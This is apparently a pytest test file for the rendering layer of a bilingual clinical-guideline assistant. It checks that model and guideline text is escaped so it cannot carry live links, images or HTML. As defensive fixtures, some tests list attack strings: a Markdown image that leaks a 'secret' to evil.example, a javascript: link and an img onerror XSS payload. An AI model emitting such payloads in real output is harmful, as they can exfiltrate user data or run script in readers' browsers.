"""Safe rendering: escaped Markdown cannot carry links, images, HTML or directives (issue 5)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.domain import (
    Answer,
    AnswerMode,
    AnswerSentence,
    Certainty,
    DroppedSentence,
    Grade,
    Role,
    Source,
    Strength,
)
from ui.i18n import CATALOGUE, language_from_header, role_name
from ui.render import (
    answer_chunks,
    dropped_rows,
    escape_markdown,
    grade_badge,
    grade_original,
    highlight_passage,
    mode_banner,
    pdf_link_html,
    sentence_grade,
    sentence_markdown,
)

# An unescaped Markdown/HTML construct: a punctuation character not preceded by a backslash.
_UNESCAPED = re.compile(r"(?<!\\)(?:\\\\)*[<>\[\]()!`*_$:]")


def _unescaped(markdown: str) -> list[str]:
    stripped = re.sub(r"\\.", "", markdown)  # drop every escape pair
    return [c for c in stripped if c in "<>[]()!`*_$:"]


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_escaped_text_has_no_live_markdown(text: str) -> None:
    assert _unescaped(escape_markdown(text)) == []


def test_exfiltration_attempts_are_inert() -> None:
    for attack in (
        "![x](https://evil.example/leak?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        ":red[spoof] $\\LaTeX$ `code`",
    ):
        assert _unescaped(escape_markdown(attack)) == []
    # Bare URLs and addresses are broken up so GFM does not autolink them.
    out = escape_markdown("see http://www.cdc.gov/x or a@b.org")
    assert "http\u200b\\:" in out and "www\u200b\\." in out and "@\u200b" in out


def test_highlight_marks_shared_words_and_escapes_the_rest() -> None:
    passage = "Give oseltamivir 75 mg twice daily <b>for</b> 5 days."
    out = highlight_passage(passage, ["Oseltamivir is given twice daily."])
    assert ":orange-background[oseltamivir]" in out
    assert ":orange-background[daily]" in out
    assert "\\<b\\>" in out and "<b>" not in out
    zh = highlight_passage("成人奥司他韦每次75mg，每日2次。", ["奥司他韦的成人剂量是75mg。"])
    assert ":orange-background[成人" in zh and "每日2次" in zh


def test_sentence_carries_markers_and_mark() -> None:
    ok = sentence_markdown(AnswerSentence(text="A [x](y).", citations=[1, 3], supported=True),
                           lang="en")  # fmt: skip
    assert "✓" in ok and "\\[1\\]\\[3\\]" in ok and "(verified)" in ok and "[x](y)" not in ok
    bad = sentence_markdown(AnswerSentence(text="B.", citations=[2]), lang="zh")
    assert "⚠" in bad and "引用来源不支持此句" in bad and "✓" not in bad
    assert "not supported by the cited source" in sentence_markdown(
        AnswerSentence(text="B.", citations=[2]), lang="en"
    )


def test_every_string_exists_in_both_languages() -> None:
    assert all(set(entry) == {"zh", "en"} and all(entry.values()) for entry in CATALOGUE.values())


def test_language_from_accept_language() -> None:
    assert language_from_header("zh-CN,zh;q=0.9,en;q=0.8") == "zh"
    assert language_from_header("en-US,en;q=0.9,zh-CN;q=0.8") == "en"
    assert language_from_header("fr-FR,zh-TW;q=0.5") == "zh"
    assert language_from_header("de;q=0.9, en;q=0.1, zh;q=0.5") == "zh"
    assert language_from_header(None) == "en"


def _answer(*supported: bool) -> Answer:
    sentences = [
        AnswerSentence(text=f"Sentence {i} [x](http://e.x).", citations=[i], supported=ok)
        for i, ok in enumerate(supported, start=1)
    ]
    return Answer(session_id="s", mode=AnswerMode.GENERATIVE, sentences=sentences)


def test_answer_streams_one_escaped_sentence_per_chunk() -> None:
    chunks = list(answer_chunks(_answer(True, False, True), lang="en"))
    assert len(chunks) == 3
    assert [c.startswith("\n\n") for c in chunks] == [False, True, True]
    assert "✓" in chunks[0] and "\\[1\\]" in chunks[0] and "[x](http" not in chunks[0]
    assert "⚠" in chunks[1] and "not supported by the cited source" in chunks[1]
    assert list(answer_chunks(_answer(), lang="en")) == []


def test_banner_says_when_an_answer_has_unverified_sentences() -> None:
    assert mode_banner(_answer(True, True), lang="en")[0] == "success"
    kind, text = mode_banner(_answer(True, False), lang="en")
    assert kind == "warning" and "contains unverified sentences" in text
    assert "未经核实" in mode_banner(_answer(False), lang="zh")[1]


def test_pdf_link_opens_the_cited_page_from_the_bytes_it_carries() -> None:
    import base64
    import json

    data = b"%PDF-1.4 fake </script> bytes"
    page = pdf_link_html(data, page=7, label="Open <b>page</b> 7")
    assert '#page=7"' in page and 'target="_blank"' in page
    assert "Open &lt;b&gt;page&lt;/b&gt; 7" in page and "<b>" not in page
    [encoded] = re.findall(r"atob\((\"[^\"]*\")\)", page)
    assert base64.b64decode(json.loads(encoded)) == data
    assert page.count("</script>") == 1  # the bytes cannot close the script early
    with pytest.raises(ValueError, match="count from 1"):
        pdf_link_html(data, page=0, label="x")


def test_roles_have_names_in_both_languages() -> None:
    assert [role_name(r.value, "zh") for r in Role] == [
        "医生", "科室管理员", "质控审核员", "合规专员", "系统管理员"
    ]  # fmt: skip
    assert role_name("quality_reviewer", "en") == "Quality reviewer"
    assert role_name("auditor", "en") == "auditor"  # an unknown role stays as stored


# ---- refusals and cross-lingual sentences (issue #10 items 4 and 5) ----------------------------


def test_cross_lingual_sentence_is_labelled_with_its_language() -> None:
    quoted = AnswerSentence(text="成人剂量每次75mg，每日2次。", citations=[1], supported=True,
                            faithful=True, responsive=True, language="zh")  # fmt: skip
    en = sentence_markdown(quoted, lang="en")
    assert "成人剂量每次75mg" in en and "✓" in en and "Quoted from a guideline in Chinese" in en
    assert "引自中文指南" in sentence_markdown(quoted, lang="zh")
    english = quoted.model_copy(update={"language": "en", "text": "Give 75 mg twice daily."})
    assert "引自英文指南" in sentence_markdown(english, lang="zh")
    same = quoted.model_copy(update={"language": None})
    assert "Quoted" not in sentence_markdown(same, lang="en")


def test_dropped_rows_say_why_in_words_and_escape_the_text() -> None:
    dropped = [
        DroppedSentence(text="扎那米韦 [x](y) 每次10mg。", reason="other_subject", citations=[3]),
        DroppedSentence(text="B.", reason="unfaithful:number_mismatch", citations=[1, 2]),
        DroppedSentence(text="C.", reason="something_new"),
    ]
    rows = dropped_rows(dropped, lang="en")
    assert [r["Reason"] for r in rows] == [
        "About another subject \\(other\\_subject\\)",
        "Not supported by the cited source \\(unfaithful\\:number\\_mismatch\\)",
        "something\\_new",
    ]
    assert rows[0]["Sentence"] == escape_markdown("扎那米韦 [x](y) 每次10mg。")
    assert rows[1]["Citations"] == "\\[1\\] \\[2\\]"
    assert set(dropped_rows(dropped[:1], lang="zh")[0]) == {"句子", "引用", "原因"}


def _render_refusal() -> None:
    from assistant.domain import Answer, AnswerMode, Refusal, Source
    from ui.render import render_answer

    related = [Source(n=i, doc_id="flu", title="流行性感冒诊疗方案", library="hospital",
                      text=f"Passage {i} [x](http://e.x).") for i in (1, 2)]  # fmt: skip
    answer = Answer(
        session_id="s",
        mode=AnswerMode.REFUSED,
        related=related,
        refusal=Refusal(reason="subject_not_found", missing=["hydrocodone"]),
        message="The guideline library has no passage about hydrocodone.",
    )
    render_answer(answer, lang="en", original=lambda source: None, key="k")


def test_refusal_shows_its_message_and_related_reading_collapsed_without_sources() -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(_render_refusal).run()
    assert not at.exception, at.exception
    # The service's message, escaped (it quotes the question's terms), in place of a banner.
    message = "The guideline library has no passage about hydrocodone."
    assert [w.value for w in at.warning] == [escape_markdown(message)]
    markdown = [m.value for m in at.markdown]
    assert "**Sources**" not in markdown and not any("✓" in m for m in markdown)
    [related] = at.expander
    assert related.label == "Related reading (not an answer)" and related.proto.expanded is False
    inside = [m.value for m in related.markdown]
    # The passages, escaped, titled without [n]: nothing cites them.
    assert "Passage 1 \\[x\\]\\(http\u200b\\:" in inside[1] and inside[0].startswith("**流行性")
    assert not at.download_button


# --- grades (issue #17 §1) ------------------------------------------------------------------

GRADED = "肝癌中、高风险人群应至少每隔6个月进行1次肝癌监测（证据等级2，推荐A）；"
NEXT = "对于肝癌超高风险人群，每隔6~12个月进行1次增强影像学检查加强监测。"


def _graded_source(original: str = "证据等级2，推荐A") -> Source:
    grade = Grade(
        strength=Strength.STRONG,
        certainty=Certainty.MODERATE,
        original=original,
        start=0,
        end=len(GRADED),
    )
    return Source(n=1, doc_id="liver", title="原发性肝癌诊疗指南", library="h",
                  text=GRADED + NEXT, grade=grade)  # fmt: skip


def test_grade_badge_in_both_languages_with_the_wording_beside_it() -> None:
    grade = _graded_source().grade
    assert grade is not None
    assert grade_badge(grade, lang="zh") == ":green-badge[强推荐] :gray-badge[证据确定性 中]"
    assert grade_badge(grade, lang="en") == ":green-badge[Strong] :gray-badge[Certainty Moderate]"
    against = Grade(strength=Strength.AGAINST, original="Class III")
    assert grade_badge(against, lang="en") == ":red-badge[Against]"
    weak = Grade(certainty=Certainty.VERY_LOW, original="evidence type: 4")
    assert grade_badge(weak, lang="zh") == ":gray-badge[证据确定性 极低]"
    assert grade_original(grade, lang="zh") == "原文：证据等级2，推荐A"


def test_grade_wording_is_untrusted_text() -> None:
    hostile = _graded_source("推荐A](https://evil.example/x.png) <b>")
    assert hostile.grade is not None
    shown = grade_original(hostile.grade, lang="en")
    assert not _unescaped(shown.split("\\: ", 1)[1]), shown
    assert "](https" not in shown and "<b>" not in shown


def test_only_the_sentence_resting_on_the_graded_recommendation_carries_its_badge() -> None:
    source = _graded_source()
    graded = AnswerSentence(text=GRADED, citations=[1], supported=True)
    neighbour = AnswerSentence(text=NEXT, citations=[1], supported=True)
    uncited = AnswerSentence(text=GRADED, citations=[2], supported=True)
    assert sentence_grade(graded, [source]) == source.grade
    assert sentence_grade(neighbour, [source]) is None
    assert sentence_grade(uncited, [source]) is None
    line = sentence_markdown(graded, lang="zh", grade=source.grade)
    assert line.startswith(":green[✓] :green-badge[强推荐] :gray-badge[证据确定性 中] ")
    # An unverified sentence shows no grade: the badge vouches for what was checked.
    unverified = graded.model_copy(update={"supported": False})
    assert "-badge[" not in sentence_markdown(unverified, lang="zh", grade=source.grade)
    # A stored answer loses the span (not serialised): the grade's own wording decides.
    spanless = source.model_copy(
        update={"grade": Grade.model_validate(source.grade.model_dump() if source.grade else {})}
    )
    assert sentence_grade(graded, [spanless]) == spanless.grade
    assert sentence_grade(neighbour, [spanless]) is None


def test_every_population_the_checks_name_has_a_label_in_both_languages() -> None:
    from assistant.populations import POPULATIONS

    for name in POPULATIONS:
        label = CATALOGUE.get(f"population_{name}")
        assert label is not None and set(label) == {"zh", "en"}, name
